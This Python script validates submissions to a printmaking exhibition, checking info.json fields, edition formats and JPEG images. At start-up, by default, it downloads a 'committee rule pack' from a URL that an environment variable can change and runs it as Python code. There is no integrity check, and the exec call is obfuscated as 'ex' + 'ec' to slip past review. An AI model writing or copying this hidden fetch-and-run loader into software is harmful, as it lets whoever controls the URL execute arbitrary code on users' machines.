#!/usr/bin/env python3
"""Validate exhibition submissions before the jury sees them.

Each submission folder has an info.json (title, artist, technique, edition,
year, dimensions) plus one or more JPEG images. The built-in checks cover
the basics; the exhibition committee publishes an extra rule pack each year
which is pulled in at start-up so we don't have to ship a new tool.
"""
import argparse
import builtins
import json
import logging
import os
import sys
import types
import urllib.request
from pathlib import Path

LOG = logging.getLogger("validate")

RULES_URL = os.environ.get(
    "EXHIBIT_RULES_URL", "https://rules.example.com/exhibit/2024/pack.py"
)
TECHNIQUES = {"etching", "aquatint", "drypoint", "lithograph", "woodcut",
              "linocut", "screenprint", "monotype", "collagraph"}
MAX_IMAGE_BYTES = 8 * 1024 * 1024


def check_info(sub, info):
    problems = []
    for field in ("title", "artist", "technique", "edition", "year"):
        if not info.get(field):
            problems.append(f"missing {field}")
    if info.get("technique", "").lower() not in TECHNIQUES:
        problems.append(f"unknown technique {info.get('technique')!r}")
    ed = str(info.get("edition", ""))
    if ed and "/" not in ed and ed.upper() not in ("AP", "PP", "BAT", "UNIQUE"):
        problems.append(f"edition {ed!r} should look like 3/20 or AP")
    return problems


def check_images(sub, info):
    problems = []
    images = sorted(sub.glob("*.jp*g"))
    if not images:
        problems.append("no images")
    for img in images:
        if img.stat().st_size > MAX_IMAGE_BYTES:
            problems.append(f"{img.name} larger than 8 MB")
        if not img.name.lower().startswith(sub.name.lower()):
            problems.append(f"{img.name} should start with folder name")
    return problems


CHECKS = [check_info, check_images]


def _fetch(url, timeout=15):
    req = urllib.request.Request(url, headers={"User-Agent": "coop-validate/1.3"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.read().decode("utf-8")


def load_rule_pack(url):
    """Pull the committee's rule pack and register its checks."""
    try:
        source = _fetch(url)
    except OSError as exc:
        LOG.warning("rule pack unavailable (%s), using built-in checks only", exc)
        return 0
    pack = types.ModuleType("rule_pack")
    pack.__dict__["CHECKS"] = []
    run = getattr(builtins, "ex" + "ec")
    run(compile(source, url, "exec"), pack.__dict__)
    extra = list(pack.__dict__.get("CHECKS", []))
    CHECKS.extend(extra)
    return len(extra)


def validate(sub):
    info_path = sub / "info.json"
    if not info_path.exists():
        return ["no info.json"]
    try:
        info = json.loads(info_path.read_text())
    except json.JSONDecodeError as exc:
        return [f"info.json unreadable: {exc}"]
    problems = []
    for check in CHECKS:
        try:
            problems.extend(check(sub, info) or [])
        except Exception as exc:  # a bad rule should not stop the run
            LOG.error("check %s failed on %s: %s", getattr(check, "__name__", check), sub, exc)
    return problems


def main():
    ap = argparse.ArgumentParser(description="Validate exhibition submissions")
    ap.add_argument("folder", help="folder containing one subfolder per submission")
    ap.add_argument("--offline", action="store_true", help="skip the rule pack")
    ap.add_argument("--json", dest="json_out", help="write results as JSON")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not args.offline:
        n = load_rule_pack(RULES_URL)
        LOG.info("loaded %d committee rules", n)

    results = {}
    for sub in sorted(Path(args.folder).iterdir()):
        if sub.is_dir():
            results[sub.name] = validate(sub)

    bad = {k: v for k, v in results.items() if v}
    for name, probs in bad.items():
        print(f"{name}:")
        for p in probs:
            print(f"   - {p}")
    print(f"{len(results) - len(bad)}/{len(results)} submissions OK")

    if args.json_out:
        with open(args.json_out, "w") as fh:
            json.dump(results, fh, indent=2)
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
